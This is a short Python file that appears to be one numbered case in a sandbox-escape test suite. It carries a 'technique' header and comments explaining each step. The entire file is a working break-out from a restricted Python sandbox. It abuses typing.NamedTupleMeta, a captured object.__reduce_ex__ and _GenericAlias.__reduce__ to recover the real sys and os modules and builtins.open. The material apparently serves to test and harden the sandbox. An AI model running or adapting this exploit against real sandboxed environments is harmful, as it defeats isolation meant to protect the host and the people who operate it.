# technique: typing.NamedTupleMeta.__new__ called directly with bases=(X(),): `assert _NamedTuple in bases` calls type(X).__eq__, a C partial dict.fromkeys(starmap(operator.call, calls)), from the exec-allowed frame (no namespace or annotations involved); the calls set __module__="__main__" on typing._GenericAlias and its base, so the captured object.__reduce_ex__ serves aliases and _GenericAlias.__reduce__ hands out globals()[_name] of typing: the real sys
# expect: any
import typing, functools, itertools, operator, enum
def trusted(*calls):
    # typing.NamedTupleMeta.__new__ starts with `assert _NamedTuple in bases`: the tuple's
    # `in` calls type(X).__eq__(_NamedTuple) from NamedTupleMeta.__new__'s frame (exec-allowed).
    # __eq__ is a C partial: dict.fromkeys(starmap(operator.call, calls), _NamedTuple)
    X = type("X", (), {"__eq__": functools.partial(dict.fromkeys, itertools.starmap(operator.call, calls))})
    try:
        typing.NamedTupleMeta.__new__(None, "N", (X(),), {})
    except TypeError:
        pass
got = []
class Spy:
    def __eq__(self, other):
        got.append(other); return False
    __hash__ = object.__hash__
class E(type("Mixin", (), {"__reduce_ex__": Spy()}), enum.Enum):
    A = 1
red = got[0]                                  # object.__reduce_ex__ (case 382's capture)
GA = type(typing.List[int])                   # typing._GenericAlias
# GA and its base become "the user's own" classes (__module__ == "__main__" in their dict)
trusted((type.__setattr__, GA, "__module__", "__main__"),
        (type.__setattr__, GA.__mro__[1], "__module__", "__main__"))
# so object.__reduce_ex__ serves them: _GenericAlias.__reduce__ returns
# (operator.getitem, (globals()[self._name], args)) with typing's own module globals
sys_mod = red(GA(list, (int,), name="sys"), 4)[1][0]
print(type(sys_mod), sys_mod)
os_mod = sys_mod.modules["os"]
print(os_mod.getpid(), sys_mod.modules["_safepy"], sys_mod.modules["builtins"].open)
